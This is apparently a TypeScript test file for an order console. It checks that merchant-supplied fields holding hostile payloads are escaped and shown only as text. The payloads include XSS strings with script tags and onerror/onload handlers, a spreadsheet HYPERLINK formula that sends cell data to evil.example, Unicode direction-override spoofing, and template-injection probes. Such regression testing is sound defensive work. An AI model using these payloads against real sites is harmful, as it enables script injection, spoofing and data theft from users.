// Merchants choose the text of many fields. Each must be shown as text, on every page about an order.
import { itemDetails } from "@waybill/core/adapter"
import { describe, expect, it } from "vitest"
import { formIn, openFloor } from "../fixtures/open-floor.ts"
import { submission } from "../fixtures/shop-orders.ts"

const payloads = [
  ["a script", '<script>alert(1)</script>"><img src=x onerror=alert(1)>'],
  ["the end of an attribute", "' onfocus='alert(1)' autofocus x=\"` onload=alert(1)"],
  ["the end of a text area", "</textarea></form></title><svg onload=alert(1)>"],
  ["a formula", '=HYPERLINK("https://evil.example/"&A1,"Pay")'],
  ["a change of direction", "\u202Egnp.exe\u2066 \u200Fabc"],
  ["a template", "{{7*7}} #{7*7} %3Cb%3E &lt;b&gt; &#60;i&#62;"]
] as const

const entities: Readonly<Record<string, string>> = {
  "&": "&amp;",
  "<": "&lt;",
  ">": "&gt;",
  '"': "&quot;",
  "'": "&#39;",
  "`": "&#96;"
}

const escaped = (text: string): string => [...text].map((sign) => entities[sign] ?? sign).join("")

/** An order in which each string has the name of its field and the payload. */
const hostileOrder = (payload: string) => {
  const text = (name: string) => `${name}${payload}`
  const address = (name: string) => ({
    name: text(`${name}-name`),
    company: text(`${name}-company`),
    address: text(`${name}-address`),
    address2: text(`${name}-address2`),
    city: text(`${name}-city`),
    zip: text(`${name}-zip`),
    state: text(`${name}-state`),
    country: "LB",
    phone: text(`${name}-phone`),
    email: text(`${name}-email`)
  })
  const [print] = submission("x").order_info
  const item = Object.fromEntries(
    ["type", "title", ...itemDetails.map(([name]) => name)].map((name) => [name, text(name)])
  )
  return {
    isgift: "1",
    gift_to: text("gift_to"),
    gift_from: text("gift_from"),
    message: text("message"),
    invoice: `https://example.com/${encodeURIComponent(text("invoice"))}`,
    track_url: `https://example.com/${encodeURIComponent(text("track_url"))}`,
    billing_address: address("billing"),
    shipping_address: address("shipping"),
    order_info: [{ ...print, quantity: "2", ...item }],
    shipping: {
      carrier: "acme",
      service: "ACME_GROUND",
      packaging: text("packaging"),
      notes: text("shipping-notes"),
      account: text("account")
    }
  }
}

/** Icons of the console, which have no text of a merchant. */
const icons = /<svg class="icon" viewBox="0 0 16 16" aria-hidden="true"><path d="[\w .-]+"\/><\/svg>/g

/** Returns the tags of a page that run code or load something, and text that is not a complete tag. */
const activeTags = (drawn: string): ReadonlyArray<string> => {
  const page = drawn.replaceAll(icons, "")
  const tags = [...page.matchAll(/<([a-z][\w-]*)((?:\s+[\w-]+(?:="[^"<>]*")?)*)\s*>/g)]
  const starts = [...page.matchAll(/<[a-z]/gi)]
  const active = tags.filter(([, name = "", attributes = ""]) => {
    if (name === "script") return !/^ type="module" src="\/console\/assets\/[\w./-]+"$/.test(attributes)
    return /^(?:svg|iframe|style|object|embed|base|img)$/.test(name) || /\s(?:on\w+|style|srcdoc)="/.test(attributes)
  })
  return [...active.map(([tag]) => tag), ...(starts.length === tags.length ? [] : ["an incomplete tag"])]
}

/** Elements that keep the direction of writing of their text to themselves. */
const isolating = /^(?:bdi|option|textarea|title)$/

const hasNoEnd = /^(?:br|img|input|link|meta)$/

/** Returns the tags of elements that contain the text directly, and do not isolate its direction of writing. */
const mixed = (page: string, text: string): ReadonlyArray<string> => {
  const open: Array<{ readonly tag: string; readonly isIsolated: boolean }> = []
  const found: Array<string> = []
  for (const [token, end, name = "", more = ""] of page
    .slice(page.indexOf("<main"), page.indexOf("</main>"))
    .matchAll(/<(\/?)([a-z\d]+)([^>]*)>|[^<]+/g)) {
    if (name === "") {
      const parent = open.at(-1)
      if (token.includes(text) && parent?.isIsolated !== true) found.push(parent?.tag ?? "")
    } else if (end === "/") open.pop()
    else if (!hasNoEnd.test(name))
      open.push({ tag: token, isIsolated: isolating.test(name) || more.includes(' dir="auto"') })
  }
  return found
}

const textsIn = (value: unknown): ReadonlyArray<string> => {
  if (typeof value === "string") return [value]
  return typeof value === "object" && value !== null ? Object.values(value).flatMap(textsIn) : []
}

const forms = ["start", "hold", "ship", "track", "note", "cancel", "reject", "reprint", "bind-quote", "erase"]

describe("text of merchants", () => {
  it.each(payloads)("%s in every field is shown as text on each page about the order", async (_, payload) => {
    const { operate, place, visit } = openFloor()
    const order = hostileOrder(payload)
    const xid = `X${payload}`
    const path = await place(xid, order)
    await operate(`${path}/start`, { msg: `start${payload}` })
    await operate(`${path}/ship`, {
      trackingno: `tracking${payload}`,
      type: `type${payload}`,
      carrier: `carrier${payload}`,
      service: `service${payload}`,
      items: [{ index: 0, quantity: 1 }],
      parcels: [{ trackingno: `parcel${payload}`, type: `parcel-type${payload}` }, { trackingno: "second" }]
    })
    const update = { shipment_id: "S1", status: "exception", at: "2026-01-02 03:04:05", note: `note${payload}` }
    await operate(`${path}/track`, update)
    await operate(`${path}/hold`, { reason: "other", msg: `hold${payload}` })
    const person = await visit("admin")
    const page = await person.read(path)
    const written = ["start", "tracking", "type", "carrier", "service", "parcel", "parcel-type", "note", "hold"]
    const texts = [...textsIn(order), xid, ...written.map((name) => name + payload)].filter((text) =>
      text.includes(payload)
    )
    expect(texts.length).toBeGreaterThan(40)
    for (const text of texts) expect(page).toContain(escaped(text))
    for (const shown of [page, ...(await Promise.all(forms.map((form) => person.read(`${path}/${form}`))))]) {
      expect(shown).toContain(escaped(xid))
      expect(activeTags(shown)).toEqual([])
      expect(mixed(shown, escaped(payload))).toEqual([])
    }
    // Barcodes are the only drawings, and their text is the id of the order.
    const documents = (await person.read(`${path}/documents`)).replace(/<figure class="code">.*?<\/figure>/gs, "")
    for (const text of textsIn(order.order_info).filter((each) => each.includes(payload)))
      expect(documents).toContain(escaped(text))
    for (const shown of [documents, await person.read(`${path}/pack`)]) {
      expect(shown).toContain(escaped(xid))
      expect(activeTags(shown)).toEqual([])
      expect(mixed(shown, escaped(payload))).toEqual([])
    }
    const fields = formIn(await person.read(`${path}/note`), `${path}/note`)
    const refused = await (await person.post(`${path}/note`, { ...fields, revision: "1", msg: payload })).text()
    expect(formIn(refused, `${path}/note`).msg).toBe(payload)
    expect(activeTags(refused)).toEqual([])
    expect(mixed(refused, escaped(payload))).toEqual([])
  })
})
